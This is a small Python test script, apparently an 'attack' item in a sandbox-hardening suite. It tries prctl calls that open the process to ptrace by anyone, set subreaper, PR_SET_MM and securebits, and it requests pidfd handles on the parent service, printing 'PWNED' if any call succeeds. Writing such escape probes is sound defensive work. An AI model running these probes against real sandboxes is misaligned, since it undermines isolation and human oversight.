# /// attack
# category = "kernel-surface"
# kind = "stdio"
# success = "marker"
# expected = ["wrong_answer", "sandbox_violation", "runtime_error"]
# summary = "Steers memory and debugging of itself and of the service by prctl and process_madvise."
# ///

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
PR_SET_PTRACER, PR_SET_CHILD_SUBREAPER, PR_SET_MM, PR_SET_SECUREBITS = 0x59616D61, 36, 35, 28
for option, value in (
    (PR_SET_PTRACER, ctypes.c_ulong(-1).value),
    (PR_SET_CHILD_SUBREAPER, 1),
    (PR_SET_MM, 1),
    (PR_SET_SECUREBITS, 1),
):
    if libc.prctl(option, ctypes.c_ulong(value), *(ctypes.c_ulong(0),) * 3) == 0:
        print("PWNED")
    else:
        print("blocked", option, ctypes.get_errno())
for pid in (int("{PARENT_PID}"), os.getppid()):
    handle = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))
    print("PWNED" if handle >= 0 else f"blocked {ctypes.get_errno()}")
